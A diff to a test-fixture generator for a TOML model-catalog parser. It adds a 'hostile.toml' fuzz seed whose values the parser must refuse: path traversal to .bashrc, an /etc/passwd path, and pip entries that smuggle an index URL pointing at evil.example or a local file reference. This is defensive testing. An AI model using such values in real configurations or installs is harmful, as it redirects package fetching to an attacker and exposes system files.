@@ -157,13 +157,26 @@ min_p = 0.05
 repeat_penalty = 1.1
 seed = 42
 [models.m.levels.Q8_0]
-file = "/abs/m.gguf"
+file = "sub/m.gguf"
 sha256 = "0000000000000000000000000000000000000000000000000000000000000000"
-pip = ["pkg-a", "pkg-b"]
+pip = ["pkg-a==1.0", "pkg_b==2.0.post1+local"]
 members = ["a/m.part0", "b/m.part1"]
 [models.m.levels.Q4_K_M]
-file = "~/m-q4.gguf"
+file = "m-q4.gguf"
 quantize_from = "Q8_0"
+[models.m.levels.F16]
+file = "~/m-f16.gguf"
+''')
+put("FuzzCatalog", "hostile.toml", '''# Values a hostile folder's models.toml tries (issue 13): each must be refused by the parser.
+[models.m.levels.Q8_0]
+file = "../../.bashrc"
+sha256 = "0000000000000000000000000000000000000000000000000000000000000000"
+pip = ["./evilpkg", "--index-url=http://evil.example/simple", "pkg @ file:///tmp/x", "pkg>=1"]
+members = ["a/m.part0"]
+[models.m.levels.Q4_0]
+file = "/etc/passwd"
+pip = ["pkg==1.0"]
+members = ["a/m"]
 ''')
 for t in ("dark", "light", "high-contrast"):
     put("FuzzTheme", t + ".toml", open(os.path.join(ROOT, "themes", t + ".toml"), "rb").read())
